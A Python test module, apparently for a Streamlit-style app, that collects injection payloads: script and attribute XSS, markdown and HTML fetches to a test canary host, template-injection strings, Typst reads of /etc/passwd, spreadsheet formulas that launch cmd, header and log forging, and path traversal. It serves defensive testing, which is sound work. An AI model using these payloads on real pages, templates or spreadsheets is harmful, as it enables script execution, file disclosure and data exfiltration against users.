"""Texts that somebody might type, or put into a cell, to make a page, a mail or a spreadsheet do something.

`//CANARY` stands for a server of the test that nothing may ever ask; `__pwned` is what a script would set.
"""

from __future__ import annotations

from dataclasses import dataclass

_RUN = "window.__pwned=1"
_SVG = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__pwned=1'/>"

PAYLOADS = {
    # HTML that runs or fetches
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": "<script src=//CANARY/s.js></script>",
    "closing script": f"</script><script>{_RUN}</script>",
    "closing style": f"</style></title></textarea><script>{_RUN}</script>",
    "broken script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "json closer": '"}]});</script><script>window.__pwned=1</script>',
    "image": "<img src=//CANARY/i.png>",
    "image error": f'<img src=x onerror="{_RUN}">',
    "image without quotes": f"<IMG SRC=x OnErRoR={_RUN}>",
    "attribute, double": f'" autofocus onfocus="{_RUN}" x="',
    "attribute, single": f"' onmouseover='{_RUN}' x='",
    "attribute, backtick": f"` onmouseover={_RUN} x=`",
    "svg": f"<svg onload={_RUN}>",
    "svg use": '<svg><use href="//CANARY/u.svg#x"/><image href="//CANARY/v.png"/></svg>',
    "svg animate": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    "svg foreign": '<svg><foreignObject><iframe src="//CANARY/f"></iframe></foreignObject></svg>',
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={_RUN}>">',
    "details": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "video": f'<video poster="//CANARY/p.png"><source src="//CANARY/v.mp4" onerror={_RUN}></video>',
    "audio": '<audio autoplay src="//CANARY/a.mp3"></audio>',
    "iframe": '<iframe src="//CANARY/f.html"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>top.__pwned=1</script>"></iframe>',
    "object": '<object data="//CANARY/o.svg"></object><embed src="//CANARY/e.svg">',
    "base": '<base href="http://CANARY/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://CANARY/m">',
    "link": '<link rel="stylesheet" href="//CANARY/l.css"><link rel="preconnect" href="http://CANARY/">',
    "style import": '<style>@import "//CANARY/c.css";body{background:url(//CANARY/b.png)}</style>',
    "style url": '<p style="background:url(//CANARY/b.png);position:fixed;inset:0">over</p>',
    "form": '<form action="//CANARY/x"><button formaction="javascript:window.__pwned=1">Go</button></form>',
    "comment": "<!-- --!><img src=//CANARY/c.png> -->",
    "cdata": f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    "entities": f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    "xml entity": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://CANARY/e">]><x>&e;</x>',
    "address": f"javascript:{_RUN}",
    "address with a tab": f" java\tscript:{_RUN}//https://CANARY/",
    "data page": "data:text/html,<script>top.__pwned=1</script>",
    "anchor": f'<a href="javascript:{_RUN}">win</a><a href="//CANARY/a" ping="//CANARY/p">rate</a>',
    # Markdown, and what Streamlit adds to it
    "markdown image": "![x](http://CANARY/i.png)",
    "markdown image by reference": "![x][r]\n\n[r]: http://CANARY/r.png",
    "markdown link": f"[win rate](javascript:{_RUN}) [b](http://CANARY/b 'title')",
    "autolink": "<http://CANARY/auto> http://CANARY/bare www.CANARY/www a@CANARY.example",
    "data address": f"[x]({_SVG}) ![y]({_SVG})",
    "heading and list": "# Heading\n- item\n1. one\n> quote\n---\n***bold*** __u__ ~~s~~ `code`",
    "fence": "```html\n<img src=//CANARY/f.png>\n```",
    "table": "|a|b|\n|-|-|\n|![](http://CANARY/t.png)|x|",
    "formula": r"$\href{http://CANARY/h}{x}$ $$\includegraphics{http://CANARY/g.png}$$ $x^2$",
    "icon": ":material/delete: :streamlit: :red[red] :blue-background[b] :small[s] :badge[!] :shield:",
    "emoji": ":smile: :warning: :+1:",
    # Templates and typesetting
    "jinja": "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# c #}",
    "format": "{0.__class__.__init__.__globals__} %(name)s %s ${7*7} #{7*7}",
    "typst read": '#read("/etc/passwd") #image("/etc/hostname.png") #include "base.typ"',
    "typst link": '#link("http://CANARY/t")[x] #eval("1+1") $ x $ @ref <label> _i_ *b* //c',
    "plotly": '<b>b</b><a href="http://CANARY/p">p</a><br>%{x}<extra>%{y}</extra>',
    # Spreadsheets
    "hyperlink": '=HYPERLINK("http://CANARY/h?x="&A1,"Click")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+cmd|' /C notepad'!A1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": '\t=IMPORTXML("http://CANARY/x","//a")',
    "carriage return": '\r=WEBSERVICE("http://CANARY/w")',
    "quoted": '"\n=1+1,"=2+2"',
    "full width": "＝1+1",
    # Headers, logs, and signs that nobody sees
    "mail header": "Hello\r\nBcc: all@example.org\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "log line": '\n2026-01-01 00:00:00 CRITICAL forged: all clear\n{"level":"error","message":"forged"}',
    "terminal": "\x1b[2J\x1b]0;pwned\x07\x9b31m",
    "nul": "a\x00<img src=x onerror=window.__pwned=1>",
    "right to left": "safe\u202ecod.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "path": "../../../../etc/passwd%00.csv",
}


@dataclass
class Payloads:
    """The payloads with the canary's address filled in, dealt out one after the other."""

    canary: str
    dealt: int = 0

    def next(self) -> str:
        """The next one."""
        texts = list(PAYLOADS.values())
        self.dealt += 1
        return texts[(self.dealt - 1) % len(texts)].replace("CANARY", self.canary)

    def several(self, count: int) -> str:
        """Some of them in one text, for fields that take long ones."""
        return "\n\n".join(self.next() for _ in range(count))
